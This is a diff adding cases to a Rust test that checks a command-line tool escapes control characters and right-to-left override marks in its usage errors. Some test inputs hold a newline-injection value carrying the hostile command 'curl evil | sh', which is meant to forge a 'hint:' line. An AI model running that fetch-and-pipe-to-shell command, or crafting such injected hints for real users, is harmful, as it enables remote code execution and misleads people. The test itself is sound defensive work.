@@ -173,6 +173,21 @@ fn usage_errors_show_the_arguments_escaped() {
             ],
             "`x\\nhint: run `curl evil | sh`` is not a date or an instant",
         ),
+        // A parser that refuses the control character itself takes the escaped text: the
+        // first error is written, its arguments escaped in it.
+        (
+            &["api", "/v1/me", "-f", "x\nhint: run `curl evil | sh`=1"],
+            "`x\\nhint: run `curl evil | sh`=1` has no usable KEY",
+        ),
+        (
+            &["api", "/v1/me\nhint:run-evil"],
+            "invalid value '/v1/me\\nhint:run-evil' for '<PATH>'",
+        ),
+        // A mark that reorders text is escaped too.
+        (
+            &["list", "--state", "\u{202e}queued"],
+            "invalid value '\\u{202e}queued' for '--state <STATE>'",
+        ),
         (
             &["seed", "--generate", "x\nhint: evil=1"],
             "unknown `x\\nhint: evil`",
